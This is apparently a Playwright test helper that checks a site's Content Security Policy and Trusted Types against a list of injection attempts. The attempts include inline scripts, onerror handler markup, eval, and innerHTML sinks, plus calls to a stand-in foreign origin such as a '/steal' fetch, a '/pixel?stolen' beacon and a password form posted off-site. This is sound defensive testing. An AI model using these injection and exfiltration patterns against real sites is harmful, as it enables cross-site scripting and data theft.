import type { BrowserContext, Page } from '@playwright/test';
import type { ForeignSite } from './foreign-site.ts';

declare global {
  interface Window {
    refused: (directive: string) => void;
  }
}

/** Changes of the served policy, by directive; null takes one away. */
type Changes = Record<string, string | null>;

export const noTrustedTypes: Changes = { 'require-trusted-types-for': null, 'trusted-types': null };
export const textIsCode: Changes = { 'script-src': "'self' 'unsafe-inline' 'unsafe-eval'" };

/** The policy of an answer with the changes. */
function changed(policy: string, changes: Changes): string {
  const served = policy.split(';').map((directive) => directive.trim().split(' '));
  const directives = new Map(served.map(([name = '', ...sources]) => [name, sources.join(' ')]));
  for (const [name, value] of Object.entries(changes)) {
    if (value === null) directives.delete(name);
    else directives.set(name, value);
  }
  return [...directives].map(([name, value]) => `${name} ${value}`).join(';');
}

/** Opens a page with this markup in it, under the headers that the server sends with the product, but for the
 * changes. Answers the directives that refuse something from then on. */
export async function openWith(page: Page, markup: string, changes: Changes): Promise<string[]> {
  const refusals: string[] = [];
  await page.exposeFunction('refused', (directive: string) => void refusals.push(directive));
  await page.addInitScript(() =>
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused(effectiveDirective)),
  );
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const policy = headers['content-security-policy'];
    if (policy === undefined) throw new Error('the page came without a policy');
    headers['content-security-policy'] = changed(policy, changes);
    await route.fulfill({ status: 200, headers, body: `<!doctype html><title>page</title><body>${markup}</body>` });
  });
  await page.goto('/');
  return refusals;
}

export const marked = (page: Page) => page.evaluate(() => document.documentElement.dataset['ran'] ?? null);
const mark = "document.documentElement.dataset.ran = 'yes'";

type Attempt = {
  what: string;
  /** The directive that must stop it. */
  directive: string;
  markup?: (foreign: string) => string;
  act?: (page: Page, foreign: string) => Promise<unknown>;
  /** Whether it worked; by default, whether it called the foreign site. */
  worked?: (page: Page, foreign: string) => Promise<unknown>;
};

// In a task of the page's own: what the test itself evaluates is not held to the policy.
const evaluates = (page: Page) =>
  page.evaluate((code) => {
    const run = Reflect.get(globalThis, 'eval') as (code: string) => void;
    setTimeout(() => run(code));
  }, mark);
// In a task of its own: a press would wait for the navigation that is refused.
const submit = (page: Page) => page.evaluate(() => void setTimeout(() => document.forms[0]?.submit()));

/** The next steps of an attacker who got markup or a script into a page. */
export const attempts: Attempt[] = [
  { what: 'an inline script', directive: 'script-src-elem', markup: () => `<script>${mark}</script>`, worked: marked },
  {
    what: 'an event handler in markup',
    directive: 'script-src-attr',
    markup: () => `<img src="data:," onerror="${mark}">`,
    worked: marked,
  },
  { what: 'eval', directive: 'script-src', act: evaluates, worked: marked },
  {
    what: 'a script of another origin',
    directive: 'script-src-elem',
    markup: (foreign) => `<script src="${foreign}/script.js"></script>`,
    worked: marked,
  },
  {
    what: 'a style attribute',
    directive: 'style-src-attr',
    markup: () => '<b style="position: fixed">over all</b>',
    worked: (page) => page.evaluate(() => getComputedStyle(document.querySelector('b')!).position === 'fixed'),
  },
  {
    what: 'a picture of another origin',
    directive: 'img-src',
    markup: (foreign) => `<img src="${foreign}/pixel?stolen">`,
  },
  {
    what: 'a font of another origin',
    directive: 'font-src',
    act: (page, foreign) =>
      page.evaluate((url) => void new FontFace('x', `url(${url}/font)`).load().catch(() => null), foreign),
  },
  {
    what: 'a call to another origin',
    directive: 'connect-src',
    act: (page, foreign) => page.evaluate((url) => void fetch(`${url}/steal`).catch(() => null), foreign),
  },
  {
    what: 'a worker out of a text',
    directive: 'worker-src',
    act: (page) =>
      page.evaluate(() => {
        const code = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
        new Worker(code).addEventListener('message', () => {
          document.documentElement.dataset['ran'] = 'yes';
        });
      }),
    worked: marked,
  },
  {
    what: 'a frame of another origin',
    directive: 'frame-src',
    markup: (foreign) => `<iframe src="${foreign}/frame"></iframe>`,
  },
  {
    what: 'a plug-in of another origin',
    directive: 'object-src',
    markup: (foreign) => `<object data="${foreign}/object"></object>`,
  },
  {
    what: 'a video of another origin',
    directive: 'media-src',
    markup: (foreign) => `<video src="${foreign}/film"></video>`,
  },
  {
    what: 'another base of all addresses',
    directive: 'base-uri',
    markup: (foreign) => `<base href="${foreign}/">`,
    worked: (page, foreign) => page.evaluate((url) => document.baseURI.startsWith(url), foreign),
  },
  {
    what: 'a form to another origin',
    directive: 'form-action',
    markup: (foreign) => `<form action="${foreign}/form"><input name="password" value="typed"></form>`,
    act: submit,
  },
  {
    what: 'a form that would put what was typed into our own address',
    directive: 'form-action',
    markup: () => '<form><input name="password" value="typed"></form>',
    act: submit,
    worked: async (page) => page.url().includes('password=typed'),
  },
];

/** Text that would become markup or code, with scripts allowed: what only Trusted Types stop. */
export const texts: { what: string; act: (page: Page) => Promise<unknown> }[] = [
  {
    what: 'markup that is set as innerHTML',
    act: (page) =>
      page.evaluate((code) => {
        document.body.innerHTML = `<img src="data:," onerror="${code}">`;
      }, mark),
  },
  {
    what: 'a text that becomes a script',
    act: (page) =>
      page.evaluate((code) => {
        const script = document.createElement('script');
        script.text = code;
        document.body.append(script);
      }, mark),
  },
  { what: 'eval', act: evaluates },
  {
    what: 'markup that is added to what is there',
    act: (page) =>
      page.evaluate(
        (code) => document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="${code}">`),
        mark,
      ),
  },
];

/** Opens a page of its own under the changed policy and makes the attempt there. */
export async function tryOut(
  { markup = () => '', act = async () => undefined, worked }: Attempt,
  context: BrowserContext,
  foreign: ForeignSite,
  changes: Changes,
): Promise<{ page: Page; refusals: string[]; hasWorked: () => Promise<boolean> }> {
  foreign.visits.length = 0;
  const page = await context.newPage();
  const refusals = await openWith(page, markup(foreign.url), changes);
  await act(page, foreign.url);
  const visited = async () => foreign.visits.some(({ path }) => path !== '/favicon.ico');
  return { page, refusals, hasWorked: async () => Boolean(await (worked ?? visited)(page, foreign.url)) };
}
